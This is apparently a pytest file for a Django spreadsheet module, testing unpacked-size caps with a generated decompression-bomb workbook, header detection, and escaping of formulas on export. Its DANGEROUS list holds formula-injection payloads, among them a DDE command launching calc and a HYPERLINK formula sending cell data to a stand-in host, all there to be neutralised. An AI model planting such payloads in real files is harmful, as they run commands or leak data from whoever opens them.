"""core.spreadsheets: reading what offices send (caps before parsing, the header row found
under a title line) and writing files that never run a formula."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.utils import translation

from core import spreadsheets
from core.spreadsheets import (
    Limits,
    SpreadsheetError,
    check_size,
    csv_stream,
    read_table,
    spreadsheet_bytes,
)

ALIASES = {"nip": "nip", "nama": "name", "jabatan": "position"}
REQUIRED = {"nip": "NIP", "name": "Nama"}


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def read(content: bytes, **limits):
    return read_table(
        io.BytesIO(content),
        aliases=ALIASES,
        required=REQUIRED,
        key="nip",
        columns_hint="NIP, Nama",
        limits=Limits(**limits) if limits else None,
    )


def xlsx_bomb(unpacked: int) -> bytes:
    """A valid workbook whose first sheet unpacks to ``unpacked`` bytes or more: whitespace
    inside <sheetData>, which deflate shrinks to almost nothing."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["NIP", "Nama"])
    plain = io.BytesIO()
    workbook.save(plain)
    source, out = zipfile.ZipFile(io.BytesIO(plain.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b" " * unpacked + b"</sheetData>")
            target.writestr(item.filename, data)
    return out.getvalue()


# The unpacked size of a workbook ---------------------------------------------------------------


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_it_is_parsed(
    settings, monkeypatch
):
    settings.SELARAS_SPREADSHEET_MAX_UNPACKED = 1_000_000
    bomb = xlsx_bomb(3_000_000)
    assert len(bomb) < 50_000  # small on the wire...

    def no_parsing(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(spreadsheets, "load_workbook", no_parsing)
    with pytest.raises(SpreadsheetError, match=r"Unpacked, the workbook is 2\.9") as error:
        read(bomb)
    assert "at most 976.6" in str(error.value)  # ...and the limit is named
    with pytest.raises(SpreadsheetError, match="Unpacked"):
        check_size(io.BytesIO(bomb), Limits.default())


def test_a_workbook_within_the_limits_is_read(settings):
    settings.SELARAS_SPREADSHEET_MAX_UNPACKED = 1_000_000
    table = read(xlsx_bomb(10_000))
    assert table.format == "xlsx" and list(table) == []


def test_the_file_size_and_the_rows_are_capped():
    content = b"NIP;Nama\r\n" + b"".join(b"%d;Nama %d\r\n" % (n, n) for n in range(1, 6))
    with pytest.raises(SpreadsheetError, match="The file is"):
        read(content, max_bytes=20)
    with pytest.raises(SpreadsheetError, match="more than 3 rows"):
        list(read(content, max_rows=3))


# Finding the header ----------------------------------------------------------------------------


def test_a_title_line_above_a_semicolon_table_is_skipped():
    # The title holds a comma and no semicolon: judged from the first line, the delimiter
    # would be the comma and no header would be found.
    content = (
        b"Daftar Peserta Visioning, Angkatan I\r\n"
        b"\r\n"
        b"NIP;Nama;Jabatan\r\n"
        b"198001012005011001;Budi, S.Sos.;Lurah\r\n"
    )
    table = read(content)
    assert table.header_row == 3
    assert list(table) == [
        (4, {"nip": "198001012005011001", "name": "Budi, S.Sos.", "position": "Lurah"})
    ]


# Writing: no formula survives ------------------------------------------------------------------


DANGEROUS = [
    '\x01=HYPERLINK("http://contoh.test/?d="&A1,"Klik")',
    "\x00+1+1",
    "\x1f\x08@SUM(1+1)",
    "\x0b-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1",
]


def test_control_characters_cannot_uncover_a_formula_in_the_xlsx():
    content = spreadsheet_bytes(
        format="xlsx", headers=["Nama"], rows=[[value] for value in DANGEROUS], sheet_name="S"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(DANGEROUS)
    for cell in cells:
        assert cell.value.startswith("'"), cell.value
        assert not any(ord(char) < 32 and char not in "\t\r\n" for char in cell.value)
    assert cells[0].value == '\'=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'


def test_control_characters_cannot_uncover_a_formula_in_the_csv():
    content = spreadsheet_bytes(
        format="csv", headers=["Nama"], rows=[[value] for value in DANGEROUS], sheet_name="S"
    )
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    values = [line[0] for line in lines[1:]]
    assert len(values) == len(DANGEROUS)
    for value in values:
        assert value.startswith("'"), value
        assert not any(ord(char) < 32 and char not in "\t\r\n" for char in value)
    assert values[1] == "'+1+1"


def test_the_csv_stream_comes_in_pieces_and_equals_the_whole_file():
    rows = [[str(n), f"Nama {n}"] for n in range(2500)]
    pieces = list(csv_stream(headers=["NIP", "Nama"], rows=iter(rows)))
    assert len(pieces) >= 3
    assert b"".join(pieces) == spreadsheet_bytes(
        format="csv", headers=["NIP", "Nama"], rows=rows, sheet_name="S"
    )
